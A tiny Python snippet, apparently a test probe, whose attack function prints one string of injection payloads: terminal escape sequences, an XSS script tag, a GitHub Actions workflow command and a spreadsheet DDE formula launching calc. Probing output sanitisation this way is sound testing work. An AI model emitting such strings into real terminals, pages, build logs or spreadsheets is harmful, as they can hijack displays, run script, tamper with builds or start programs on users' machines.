# End: held. Prints what a terminal, a page or a build server would obey.

def attack(facts):
    print("\x1b]0;owned\x07\x1b[2J\x1b[31m<script>alert(1)</script> ::set-output name=x::y =cmd|' /C calc'!A0")
    return []
